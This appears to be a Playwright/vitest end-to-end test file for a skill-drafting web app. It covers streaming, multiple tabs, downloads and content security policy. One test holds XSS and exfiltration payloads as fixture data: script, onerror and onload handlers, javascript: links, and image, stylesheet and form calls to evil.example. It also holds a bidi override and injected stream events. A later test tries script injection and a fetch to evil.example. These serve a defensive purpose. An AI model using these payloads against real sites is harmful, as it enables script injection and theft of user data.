import { buffer } from 'node:stream/consumers';
import { strFromU8, unzipSync } from 'fflate';
import type { Browser, Download } from 'playwright-core';
import type { Log } from 'sarif';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { envelope } from '../../shared/contract/receipt.ts';
import { readSkill } from '../../shared/skills/read-skill.ts';
import { partOf } from '../parts/run-parts.ts';
import { launch } from './browser.ts';
import { type Lab, openLab } from './lab.ts';
import {
  askLab,
  draftsIn,
  ended,
  foldsIn,
  GOAL,
  newKey,
  openCompose,
  plan,
  runIn,
  streamsIn,
} from './page.ts';

const { url: baseUrl } = await partOf('pacedSite');
let browser: Browser;
let lab: Lab;
beforeAll(async () => {
  [browser, lab] = await Promise.all([launch(), openLab()]);
});
afterEach(async () => {
  lab.sandbox.script([]);
  lab.sandbox.clear();
  for (const context of browser.contexts()) await context.close();
});
afterAll(async () => {
  await browser?.close();
  await lab?.close();
});

const RUN_REQUESTS = ['GET /v1/config', 'POST /v1/intent/byo'];
const SLOW = { firstMs: 0, eventMs: 40, charsPerEvent: 8 };

async function bytesOf(pending: Promise<Download>): Promise<Uint8Array> {
  return new Uint8Array(await buffer(await (await pending).createReadStream()));
}

test('from the first page to drafts: a newcomer runs the sandbox, and only the documented requests leave', async () => {
  const opened = await openCompose(browser, baseUrl);
  const { page, problems, requests } = opened;
  await page.getByLabel('Provider', { exact: true }).selectOption('anthropic');
  await opened.field.waitFor();
  await page.getByRole('button', { name: 'Try without a key' }).click();
  expect(await page.getByLabel('Provider', { exact: true }).inputValue()).toBe('sandbox');
  await page.getByRole('button', { name: 'Release notes' }).click();
  await plan(opened).click();

  await page.getByRole('heading', { name: 'What the goal asks for' }).waitFor();
  await page.getByRole('heading', { name: 'Plan', exact: true }).waitFor();
  await streamsIn(page).first().filter({ hasText: /\w/ }).waitFor();
  await ended(opened, 'done');

  const drafts = page.getByRole('region', { name: 'Drafts' }).getByRole('article');
  expect(await drafts.count()).toBeGreaterThan(0);
  expect(
    await page.getByRole('region', { name: 'Where time and money go' }).getByRole('listitem').count(),
  ).toBeGreaterThan(2);
  await page.getByRole('heading', { name: 'Receipt' }).waitFor();
  expect(await page.getByText('Rows written').locator('..').innerText()).toMatch(/\b0$/);
  expect(requests).toEqual(RUN_REQUESTS);
  expect(problems).toEqual([]);
});

test('text grows while it streams, and its box follows only a reader who is at its end', async () => {
  lab.sandbox.script([{ phase: 'draft', pace: SLOW }]);
  const opened = await openCompose(browser, lab.url);
  await askLab(opened, newKey());
  await plan(opened).click();
  const box = streamsIn(opened.page).first();
  const overflows = (element: Element) => element.scrollHeight > element.clientHeight + 60;
  await expect.poll(() => box.evaluate(overflows)).toBe(true);
  expect(
    await box.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight),
  ).toBeLessThan(30);

  await box.evaluate((element) => element.scrollTo(0, 0));
  const before = (await box.innerText()).length;
  await expect.poll(async () => (await box.innerText()).length).toBeGreaterThan(before + 40);
  expect(await box.evaluate((element) => element.scrollTop)).toBe(0);
});

test('two tabs do not disturb one another', async () => {
  const first = await openCompose(browser, lab.url);
  const tab = await first.page.context().newPage();
  await tab.goto(`${lab.url}/compose`);
  await tab.getByLabel('Goal').fill('Check CSV exports before they go to a partner.');
  await first.page.getByLabel('Goal').fill(GOAL);
  await plan(first).click();
  await ended(first, 'done');
  expect(await tab.getByLabel('Goal').inputValue()).toMatch(/CSV/);
  await tab.reload();
  await tab.getByLabel('Provider', { exact: true }).waitFor();
  expect(await runIn(tab).count()).toBe(0);
  expect(await tab.getByLabel('Goal').inputValue()).toMatch(/CSV/);
});

test('a run goes on while another page of the tab is read', async () => {
  const opened = await openCompose(browser, lab.url);
  const { page, requests } = opened;
  await page.getByLabel('Goal').fill(GOAL);
  await plan(opened).click();
  await runIn(page).waitFor();
  await page.getByRole('link', { name: 'About keys' }).click();
  await page.getByRole('heading', { name: 'What happens to my key' }).waitFor();
  await page.getByRole('link', { name: 'Compose', exact: true }).click();
  await ended(opened, 'done');
  expect(requests.filter((request) => request.startsWith('POST'))).toHaveLength(1);
});

test('all skills as a ZIP of folders, one as its SKILL.md, the receipt as JSON', async () => {
  const opened = await openCompose(browser, lab.url);
  const { page } = opened;
  await page.getByLabel('Goal').fill(GOAL);
  await plan(opened).click();
  await ended(opened, 'done');
  const names = await draftsIn(page).getByRole('heading', { level: 3 }).allInnerTexts();

  const zip = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download all' }).click();
  await page.getByRole('menuitem', { name: 'Skills (ZIP)' }).click();
  expect((await zip).suggestedFilename()).toMatch(/^merged-pull-requests[a-z-]*\.zip$/);
  const files = unzipSync(await bytesOf(zip));
  expect(Object.keys(files).sort()).toEqual(names.map((name) => `${name}/SKILL.md`).sort());
  for (const [path, bytes] of Object.entries(files)) {
    const reading = readSkill(strFromU8(bytes));
    expect(reading.ok && reading.file.fields['name']).toBe(path.split('/')[0]);
  }

  const sarif = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download all' }).click();
  await page.getByRole('menuitem', { name: 'Findings (SARIF)' }).click();
  const log: Log = JSON.parse(new TextDecoder().decode(await bytesOf(sarif)));
  expect(log.runs[0]?.artifacts?.map(({ location }) => location?.uri).sort()).toEqual(
    Object.keys(files).sort(),
  );

  await foldsIn(page).first().click();
  const one = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download', exact: true }).click();
  expect((await one).suggestedFilename()).toBe('SKILL.md');
  expect(new TextDecoder().decode(await bytesOf(one))).toBe(
    strFromU8(files[`${names[0]}/SKILL.md`] ?? new Uint8Array()),
  );

  const receipt = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download receipt.json' }).click();
  expect(envelope.safeParse(JSON.parse(new TextDecoder().decode(await bytesOf(receipt)))).success).toBe(true);
});

test('what a hostile model writes is text: nothing loads, nothing runs', async () => {
  const hostile = [
    '# Title <script>document.title="owned"</script>',
    '<img src="https://evil.example/a.png" onerror="document.title=1"> <svg onload="document.title=2"></svg>',
    '![pixel](https://evil.example/?q=goal) ![ref][r] [click](javascript:document.title=3)',
    '<iframe srcdoc="<script>top.document.title=4</script>"></iframe><style>@import url(https://evil.example/x.css)</style>',
    '<link rel="prefetch" href="https://evil.example/y"><base href="https://evil.example/"><form action="https://evil.example/"><button>Go</button></form>',
    'Run \u202eeht\u202c and\n\nevent: done\ndata: {"drafts":99}\n',
    '[r]: https://evil.example/ref.png',
    'x'.repeat(5000),
  ].join('\n\n');
  lab.sandbox.script([{ phase: 'draft', text: hostile }]);
  const opened = await openCompose(browser, lab.url);
  const { page, problems, requests } = opened;
  await askLab(opened, undefined);
  await plan(opened).click();
  await ended(opened, 'done');
  await foldsIn(page).first().click();
  await page.getByText('picture not loaded: pixel').first().waitFor();
  await page.getByRole('tab', { name: 'Source' }).click();
  await page.getByText('<iframe srcdoc=').first().waitFor();

  expect(await page.title()).toMatch(/Oneturn$/);
  expect(requests).toEqual(RUN_REQUESTS);
  expect(problems).toEqual([]);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
});

test('every answer has the policy, and the policy holds against a script in the page', async () => {
  const policyOf = async (path: string) =>
    (await fetch(baseUrl + path)).headers.get('content-security-policy') ?? '';
  for (const path of ['/v1/config', '/v1/nothing', '/icon.svg'])
    expect(await policyOf(path), path).toMatch(/^default-src 'none';.* frame-ancestors 'none'$/);
  for (const path of ['/compose', '/no/such/page'])
    for (const part of ["connect-src 'self'", "form-action 'none'", "require-trusted-types-for 'script'"])
      expect(await policyOf(path), path).toContain(part);
  const { page } = await openCompose(browser, baseUrl);
  const tried = await page.evaluate(async () => {
    const script = document.createElement('script');
    let assigned = 'assigned';
    try {
      script.text = 'globalThis.owned = true';
      document.body.append(script);
    } catch {
      assigned = 'refused';
    }
    let markup = 'assigned';
    try {
      document.body.innerHTML = '<b>owned</b>';
    } catch {
      markup = 'refused';
    }
    const left = await fetch('https://evil.example/').then(
      () => 'left',
      () => 'refused',
    );
    return { assigned, markup, left, owned: 'owned' in globalThis };
  });
  expect(tried).toEqual({ assigned: 'refused', markup: 'refused', left: 'refused', owned: false });
});
